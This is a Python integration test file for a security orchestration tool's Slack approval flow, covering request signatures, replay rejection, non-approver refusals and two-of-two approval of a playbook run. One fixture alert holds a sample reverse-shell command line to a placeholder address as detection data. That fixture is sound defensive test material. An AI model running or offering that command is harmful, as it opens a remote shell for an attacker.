"""Signed Slack interactivity payloads POSTed to the real `soar api`, deciding a real playbook run's approval."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from soar.config import Settings, get_settings, load_settings
from soar.notify.interactions import INTERACTIONS_KIND
from soar.store import Store, open_store
from tests.integration.notify.content import RULE_ID, write_content
from tests.integration.notify.standin import Workspace
from tests.services import require
from tests.workers import kill_group

SECRET = "test-signing-secret-8f2d"
REPO_ROOT = Path(__file__).resolve().parents[3]


@dataclass
class Api:
    url: str
    settings: Settings
    workspace: Workspace
    env: dict[str, str]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory, standin: None) -> Iterator[Api]:
    root = write_content(tmp_path_factory.mktemp("slack-content"))
    workspace = Workspace(["soc-alerts"])
    env = {
        "SOAR_CONTENT_ROOT": str(root),
        "SOAR_STATE_DIR": str(root / "state"),
        "SOAR_CELERY_EAGER": "true",
        "SOAR_SLACK_BOT_TOKEN": workspace.token,
        "SOAR_SLACK_API_URL": workspace.api_url,
        "SOAR_SLACK_SIGNING_SECRET": SECRET,
        "SOAR_SLACK_CHANNEL_INTERVAL": "0",
        "SOAR_API_TOKENS_FILE": str(root / "tokens.yml"),
    }
    port = _free_port()
    base = {k: v for k, v in os.environ.items() if not k.startswith("SOAR_")}
    log = (root / "api.log").open("ab")
    proc = subprocess.Popen(
        [sys.executable, "-m", "soar", "api", "--host", "127.0.0.1", "--port", str(port)],
        env={**base, **env},
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
        cwd=root,
    )
    url = f"http://127.0.0.1:{port}"

    def _ready() -> None:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if proc.poll() is not None:
                raise RuntimeError(f"soar api exited with {proc.returncode}: {(root / 'api.log').read_text()[-2000:]}")
            try:
                if httpx.get(f"{url}/health", timeout=1).status_code == 200:
                    return
            except httpx.HTTPError:
                time.sleep(0.1)
        raise RuntimeError("soar api did not start")

    mp = pytest.MonkeyPatch()
    for key, value in env.items():  # the in-process engine (eager tasks) reads the same settings
        mp.setenv(key, value)
    get_settings.cache_clear()
    try:
        require("soar api", _ready)
        yield Api(url, load_settings(), workspace, env)
    finally:
        mp.undo()
        kill_group(proc)
        log.close()


@pytest.fixture
def store(api: Api) -> Iterator[Store]:
    for key, value in api.env.items():
        os.environ[key] = value  # the conftest clears the settings cache per test; keep the env for this module
    get_settings.cache_clear()
    s = open_store(api.settings)
    yield s
    s.close()


def _start_run(api: Api, store: Store) -> tuple[str, str]:
    """A real run through the playbook engine, paused at its 2-of-M approval."""
    import soar.tasks.notify  # noqa: F401 (registers the run-event task the engine publishes to)
    from soar.playbooks import dispatch
    from soar.playbooks.engine import handle_alert

    alert_id = uuid.uuid4().hex
    store.put(
        "alerts",
        alert_id,
        {
            "id": alert_id,
            "@timestamp": "2026-11-28T12:00:00.000Z",
            "rule": {"id": RULE_ID, "title": "Reverse shell", "level": "high", "tags": ["attack.t1059.004"]},
            "severity": "high",
            "host": {"name": f"web-{alert_id[:6]}"},
            "events": [{"process": {"command_line": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}}],
        },
    )
    rt = dispatch.runtime_for(get_settings(), store)
    (run_id,) = handle_alert(rt, alert_id)
    dispatch.kick(get_settings(), run_id, store=store, runtime=rt)
    pending = store.find("approvals", {"run_id": run_id, "status": "pending"})
    assert len(pending) == 1, "the run waits for approval"
    return run_id, str(pending[0].doc["step"])


def _payload(run_id: str, step: str, user: str, action_id: str = "soar.approve", channel: str = "C0") -> dict[str, Any]:
    return {
        "type": "block_actions",
        "user": {"id": user, "username": user.lower()},
        "channel": {"id": channel},
        "container": {"type": "message", "message_ts": "1.0"},
        "actions": [
            {
                "action_id": action_id,
                "value": json.dumps({"run_id": run_id, "step_id": step}),
                "action_ts": f"{time.time():.6f}",
            }
        ],
    }


def _signed(body: bytes, secret: str = SECRET, ts: int | None = None) -> dict[str, str]:
    stamp = str(int(time.time()) if ts is None else ts)
    digest = hmac.new(secret.encode(), f"v0:{stamp}:".encode() + body, hashlib.sha256).hexdigest()
    return {
        "X-Slack-Request-Timestamp": stamp,
        "X-Slack-Signature": f"v0={digest}",
        "Content-Type": "application/x-www-form-urlencoded",
    }


def _post(api: Api, payload: Any, **sign: Any) -> tuple[httpx.Response, bytes]:
    body = urlencode({"payload": json.dumps(payload)}).encode()
    resp = httpx.post(f"{api.url}/slack/interactivity", content=body, headers=_signed(body, **sign), timeout=10)
    return resp, body


def _eventually(check: Callable[[], Any], timeout: float = 20) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(0.1)


def _approval(store: Store, run_id: str) -> dict[str, Any]:
    return store.find("approvals", {"run_id": run_id})[0].doc


def _channel_id(api: Api) -> str:
    return api.workspace.channels["soc-alerts"]


def _approval_message(api: Api, run_id: str) -> dict[str, Any]:
    for m in api.workspace.state()["messages"]:
        if any(b.get("block_id", "").startswith(f"approval:{run_id}") for b in m["blocks"]) or (
            m["edits"]
            and any(b.get("block_id", "").startswith(f"approval:{run_id}") for e in m["edits"] for b in e["blocks"])
        ):
            return dict(m)
    raise AssertionError("no approval message in Slack")


def test_bad_signatures_replays_and_malformed_payloads_get_4xx_and_change_nothing(api: Api, store: Store) -> None:
    run_id, step = _start_run(api, store)
    before = store.count(INTERACTIONS_KIND)
    payload = _payload(run_id, step, "UALICE")
    assert _post(api, payload, secret="wrong-secret")[0].status_code == 401
    assert _post(api, payload, ts=int(time.time()) - 6 * 60)[0].status_code == 401  # older than 5 minutes
    body = b"payload=%7Bnot+json"
    assert httpx.post(f"{api.url}/slack/interactivity", content=body, headers=_signed(body)).status_code == 400
    assert httpx.post(f"{api.url}/slack/interactivity", content=b"", headers={}).status_code == 401
    assert _post(api, _payload(run_id, step, "UALICE", action_id="soar.nuke"))[0].status_code == 400
    assert _post(api, {**payload, "type": "view_submission"})[0].status_code == 400
    bad_value = _payload(run_id, step, "UALICE")
    bad_value["actions"][0]["value"] = "not json"
    assert _post(api, bad_value)[0].status_code == 400
    time.sleep(0.5)
    assert store.count(INTERACTIONS_KIND) == before
    doc = _approval(store, run_id)
    assert doc["status"] == "pending" and doc["approvers"] == [] and doc["denials"] == []
    assert api.workspace.state()["ephemerals"] == []


def test_unknown_users_and_non_approvers_get_an_ephemeral_refusal(api: Api, store: Store) -> None:
    run_id, step = _start_run(api, store)
    channel = _channel_id(api)
    for user in ("UNOBODY", "UVICTOR"):
        resp, _ = _post(api, _payload(run_id, step, user, channel=channel))
        assert resp.status_code == 200

    def refusals() -> dict[str, str]:
        return {
            e["user"]: e["text"] for e in api.workspace.state()["ephemerals"] if e["user"] in ("UNOBODY", "UVICTOR")
        }

    _eventually(lambda: len(refusals()) == 2)
    by_user = refusals()
    assert "not a known soar user" in by_user["UNOBODY"]
    assert "Not allowed" in by_user["UVICTOR"]
    doc = _approval(store, run_id)
    assert doc["status"] == "pending" and doc["approvers"] == []


def test_two_of_m_approval_with_a_double_click_and_a_replay(api: Api, store: Store) -> None:
    run_id, step = _start_run(api, store)
    channel = _channel_id(api)
    message = _approval_message(api, run_id)
    assert [e["action_id"] for b in message["blocks"] if b["type"] == "actions" for e in b["elements"]] == [
        "soar.approve",
        "soar.deny",
    ]
    assert any("confirm" in e for b in message["blocks"] if b["type"] == "actions" for e in b["elements"])

    resp, body = _post(api, _payload(run_id, step, "UALICE", channel=channel))
    assert resp.status_code == 200
    assert _eventually(lambda: len(_approval(store, run_id)["approvers"]) == 1)
    # a replay of the very same signed request inside the window changes nothing
    replay = httpx.post(f"{api.url}/slack/interactivity", content=body, headers=_signed(body))
    assert replay.status_code == 200
    # alice clicks again (a new click): nothing changes, she is told so
    assert _post(api, _payload(run_id, step, "UALICE", channel=channel))[0].status_code == 200
    assert _eventually(
        lambda: any(
            "Nothing changed" in e["text"] for e in api.workspace.state()["ephemerals"] if e["user"] == "UALICE"
        )
    )
    doc = _approval(store, run_id)
    assert doc["status"] == "pending" and [a["approver"] for a in doc["approvers"]] == ["alice"]
    assert doc["approvers"][0]["via"] == "slack" and doc["approvers"][0]["role"] == "approver"
    partial = _eventually(
        lambda: "1 of 2" in str(_approval_message(api, run_id)["blocks"]) and _approval_message(api, run_id)
    )
    assert partial and any(b["type"] == "actions" for b in partial["blocks"])  # still open for a second approver

    assert _post(api, _payload(run_id, step, "UBOB", channel=channel))[0].status_code == 200
    assert _eventually(lambda: _approval(store, run_id)["status"] == "approved")
    decided = _eventually(
        lambda: (m := _approval_message(api, run_id)) and not any(b["type"] == "actions" for b in m["blocks"]) and m
    )
    assert decided, "the buttons are replaced by the decision"
    assert (
        "approved" in str(decided["blocks"]) and "alice" in str(decided["blocks"]) and "bob" in str(decided["blocks"])
    )
    # the run resumed and contained the host; the thread says so
    assert _eventually(lambda: store.get("runs", run_id).doc["status"] == "succeeded")  # type: ignore[union-attr]
    assert _eventually(
        lambda: any(
            "contain" in str(m["blocks"]) and "succeeded" in str(m["blocks"])
            for m in api.workspace.state()["messages"]
            if m["thread_ts"]
        )
    )
    # a click after the decision changes nothing
    assert _post(api, _payload(run_id, step, "UBOB", action_id="soar.deny", channel=channel))[0].status_code == 200
    time.sleep(0.5)
    assert _approval(store, run_id)["status"] == "approved"
    audit = [r.doc for r in store.find("audit") if r.doc.get("action") == "approval.approve"]
    assert {a["details"]["approver"] for a in audit if a["target"] == run_id} == {"alice", "bob"}
